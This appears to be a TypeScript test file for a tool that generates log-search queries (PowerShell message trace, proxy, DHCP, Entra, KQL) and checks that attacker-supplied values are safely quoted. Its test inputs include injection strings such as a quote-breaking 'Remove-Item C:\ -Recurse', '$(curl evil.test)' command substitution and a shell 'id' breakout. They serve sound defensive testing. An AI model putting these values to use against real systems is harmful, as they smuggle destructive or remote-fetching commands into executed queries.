import * as fc from "fast-check";
import { queriesOf } from "../../../../src/core/analysis/log-plan/queries.ts";
import {
  doubleQuoted,
  isUsable,
  powerShell,
  shell,
  termsOf,
} from "../../../../src/core/analysis/log-plan/quote.ts";
import { LOG_SYSTEMS } from "../../../../src/core/analysis/log-plan/systems.ts";

const FROM = Date.UTC(2026, 10, 3, 11, 35, 1);
const TO = Date.UTC(2026, 10, 3, 13, 35, 2);
const item = (system: string, lookFor: string[], from = FROM, to = TO) => ({ system, from, to, lookFor });
const textOf = (system: string, lookFor: string[], from = FROM, to = TO) =>
  queriesOf(item(system, lookFor, from, to), "Europe/Amsterdam")
    .map(({ text }) => text)
    .join("\n");

describe("ready queries", () => {
  test("Get-MessageTraceV2: UTC whatever the machine's zone", () => {
    expect(textOf("message-trace", ["<1@a.test>", "b@a.test", "192.0.2.7"]).split("\n")).toEqual(
      ["-MessageId '<1@a.test>'", "-SenderAddress 'b@a.test'", "-FromIP '192.0.2.7'"].map(
        (filter) =>
          `Get-MessageTraceV2 ${filter} -StartDate ([datetime]'2026-11-03T11:35:01Z').ToUniversalTime() -EndDate ([datetime]'2026-11-03T13:35:02Z').ToUniversalTime() -ResultSize 5000`,
      ),
    );
  });
  test("Get-MessageTraceV2: at most ten days a query", () => {
    const text = textOf("message-trace", ["<1@a.test>"], FROM, FROM + 25 * 86_400_000);
    expect(text.split("\n")).toHaveLength(3);
    expect(text).toContain("'2026-11-13T11:35:01Z'");
  });
  test("Squid and Zeek: by epoch seconds and host", () => {
    expect(textOf("proxy", ["mail.google.com"])).toContain(
      "cat access.log | awk '$1 >= 1793705701 && $1 <= 1793712902' | grep -F -e 'mail.google.com'",
    );
  });
  test("Windows DHCP: the weekday files of the server's zone", () => {
    const late = Date.UTC(2026, 10, 3, 23, 30);
    expect(textOf("dhcp-wifi", [], late, late + 60_000)).toContain("DhcpSrvLog-Wed.log");
    expect(textOf("dhcp-wifi", [], late, late + 60_000)).toContain("2026-11-04 00:30:00 +01:00");
  });
  test("Entra: OData filter inside a PowerShell string", () => {
    expect(textOf("entra-sign-in", ["192.0.2.7"])).toContain("and ipAddress eq ''192.0.2.7'''");
  });
  test("KQL: hosts and addresses in columns of their own", () => {
    const text = textOf("firewall", ["mail.google.com", "192.0.2.7"]);
    expect(text).toContain('RequestURL has_any ("mail.google.com") or DestinationIP in ("192.0.2.7")');
  });
  test("systems without a query, unknown ones and impossible times give none", () => {
    expect(queriesOf(item("cctv", []), "UTC")).toEqual([]);
    expect(queriesOf(item("toString", ["<1@a.test>"]), "UTC")).toEqual([]);
    expect(queriesOf(item("proxy", ["a.test"], Number.NaN, TO), "UTC")).toEqual([]);
    expect(queriesOf(item("proxy", ["a.test"], 8.64e15, 8.64e15), "UTC")).toEqual([]);
  });
});

/** What a shell or PowerShell reads back from a quoted string that stands alone; null where it does not end with it. */
function readBack(quoted: string, quotes: RegExp, escape: string): string | null {
  if (!/^'[\s\S]*'$/.test(quoted)) return null;
  const inner = quoted.slice(1, -1);
  const rest = inner.replaceAll(escape, "\u0000");
  return quotes.test(rest) ? null : rest;
}

describe("what the sender wrote stays a value", () => {
  const hostile = [
    "<a'; Remove-Item C:\\ -Recurse #@x.test>",
    "<a\u2019; Remove-Item C:\\ #@x.test>",
    "<$(curl evil.test)`id`@x.test>",
    '<a" or 1==1 //@x.test>',
  ];
  test.each(hostile)("PowerShell: %s", (value) => {
    const text = textOf("message-trace", [value]);
    const argument = /-MessageId ('.*') -StartDate/.exec(text)?.[1] ?? "";
    const inner = argument.slice(1, -1);
    // Each quote that PowerShell knows stands twice.
    expect(inner.replace(/(['\u2018-\u201b])\1/g, "")).not.toMatch(/['\u2018-\u201b]/);
  });
  test.each(["<a\r\nRemove-Item@x.test>", "<a\u2028b@x.test>", "<a\u202eb@x.test>", "<a\u0000@x.test>"])(
    "a line break or direction change keeps a value out: %j",
    (value) => {
      expect(textOf("message-trace", [value, "b@a.test"])).not.toContain("x.test");
      expect(termsOf([value]).unusable).toBe(1);
    },
  );
  test("shell: a quote ends nothing", () => {
    expect(shell("a'b")).toBe(String.raw`'a'\''b'`);
    expect(readBack(shell("a'; id; '"), /'/, String.raw`'\''`)).not.toBeNull();
  });
  test("KQL and SPL: quote and backslash", () => {
    expect(doubleQuoted('a\\" | delete')).toBe(String.raw`"a\\\" | delete"`);
  });
  test("property: quoted strings are one token", () => {
    fc.assert(
      fc.property(fc.string({ unit: "binary", maxLength: 60 }), (value) => {
        const doubled = powerShell(value).slice(1, -1);
        expect(doubled.replace(/(['\u2018-\u201b])\1/g, "")).not.toMatch(/['\u2018-\u201b]/);
        expect(readBack(shell(value.replaceAll("\u0000", "")), /'/, String.raw`'\''`)).not.toBeNull();
        expect(
          doubleQuoted(value)
            .slice(1, -1)
            .replace(/\\[\s\S]/g, ""),
        ).not.toMatch(/["\\]/);
      }),
    );
  });
  test("property: no query has a line that a value began", () => {
    const values = fc.array(fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...hostile)), {
      maxLength: 6,
    });
    fc.assert(
      fc.property(values, fc.constantFrom(...LOG_SYSTEMS), (lookFor, system) => {
        const bare = lookFor.filter((value) => !isUsable(value) && value.length > 3);
        const text = textOf(system, lookFor);
        for (const value of bare) if (/[\r\n]/.test(value)) expect(text).not.toContain(value);
        expect(text).not.toMatch(/[\r\u2028\u2029\u202e\u0000]/);
      }),
    );
  });
});
